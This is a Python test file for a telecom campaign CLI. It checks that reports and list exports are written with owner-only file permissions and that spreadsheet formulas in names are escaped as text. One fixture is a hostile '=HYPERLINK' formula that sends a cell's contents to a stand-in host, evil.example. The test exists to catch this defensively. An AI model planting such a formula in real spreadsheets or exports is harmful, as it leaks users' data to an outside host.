"""The files the CLI writes for people: reports and list exports are private to their
owner, and a name a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest
from planner_base import build_scored_base
from report_base import Member, build_list, day
from sqlalchemy import Engine, update
from typer.testing import CliRunner

from runner.cli.main import app
from store.db import transaction
from store.models import Customer, Group, ListEntry, User

AS_OF = day(120).isoformat()
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")'


@pytest.fixture
def env(tmp_path: Path, db_url: str) -> dict[str, str]:
    return {"TELECAMPAIGN_HOME": str(tmp_path / "home"), "DATABASE_URL": db_url}


def invoke(env: dict[str, str], *args: str) -> None:
    result = CliRunner().invoke(app, list(args), env=env)
    assert result.exit_code == 0, result.stderr


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def readable_by_all(path: Path) -> Path:
    """A file left by an earlier version or another tool, readable by every local user."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("old\n", encoding="utf-8")
    path.chmod(0o644)
    return path


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _retention_list(engine: Engine) -> str:
    members = [Member(Group.TREATMENT, tries=1, disposition="accepted") for _ in range(4)] + [
        Member(Group.HOLDOUT, ends_on=12) for _ in range(4)
    ]
    return str(build_list(engine, members)["name"])


def test_report_files_are_private_also_when_they_replace_one(
    env: dict[str, str], engine: Engine, tmp_path: Path
) -> None:
    name = _retention_list(engine)
    rows = tmp_path / "new" / "saved.csv"
    page = readable_by_all(tmp_path / "old" / "saved.html")
    invoke(env, "report", "saved", name, "--as-of", AS_OF, "--csv", str(rows), "--html", str(page))
    assert (mode(rows), mode(page)) == (0o600, 0o600)
    assert mode(rows.parent) == 0o700
    assert page.read_text(encoding="utf-8").startswith("<!doctype html>")
    kpis = readable_by_all(tmp_path / "old" / "kpis.csv")
    invoke(env, "report", "kpis", name, "--as-of", AS_OF, "--csv", str(kpis))
    assert mode(kpis) == 0o600


def test_an_export_replacing_a_readable_file_is_private(
    env: dict[str, str], engine: Engine, tmp_path: Path
) -> None:
    build_scored_base(engine, 30, p_churn=[0.3] * 30)
    invoke(env, "plan", "--kind", "anti-churn", "--name", "Q4", "--size", "10")
    target = readable_by_all(tmp_path / "q4.csv")
    invoke(env, "export", "Q4", str(target))
    assert mode(target) == 0o600
    assert target.read_text(encoding="utf-8").startswith("customer_id,name,phone")


def test_the_home_folder_is_private(env: dict[str, str], tmp_path: Path) -> None:
    invoke(env, "db", "current")
    home = Path(env["TELECAMPAIGN_HOME"])
    assert mode(home) == 0o700
    home.chmod(0o755)
    invoke(env, "db", "current")
    assert mode(home) == 0o700, "a home an earlier version left open is narrowed"


def test_report_csv_writes_formulas_as_text(
    env: dict[str, str], engine: Engine, tmp_path: Path
) -> None:
    name = _retention_list(engine)
    with transaction(engine) as session:
        session.execute(update(User).values(full_name=LINK))
        session.execute(update(ListEntry).values(offer="@SUM(A1:A9)"))
    rows = tmp_path / "saved.csv"
    invoke(env, "report", "saved", name, "--as-of", AS_OF, "--csv", str(rows))
    written = [cell for row in cells(rows) for cell in row]
    assert "'" + LINK in written
    assert "'@SUM(A1:A9)" in written
    assert not [c for c in written if c[:1] in ("=", "@")]
    agents = tmp_path / "kpis.csv"
    invoke(env, "report", "kpis", name, "--as-of", AS_OF, "--csv", str(agents))
    assert "'" + LINK in [cell for row in cells(agents) for cell in row]


def test_export_writes_formulas_as_text_and_numbers_as_they_are(
    env: dict[str, str], engine: Engine, tmp_path: Path
) -> None:
    build_scored_base(engine, 30, p_churn=[0.3] * 30)
    with transaction(engine) as session:
        session.execute(update(Customer).values(name=LINK))
    invoke(env, "plan", "--kind", "anti-churn", "--name", "Q4", "--size", "10")
    target = tmp_path / "q4.csv"
    invoke(env, "export", "Q4", str(target))
    header, *rows = cells(target)
    by_name = [dict(zip(header, row, strict=True)) for row in rows]
    assert {r["name"] for r in by_name} == {"'" + LINK}
    assert all(r["phone"].startswith("+1") for r in by_name), "E.164 numbers stay numbers"
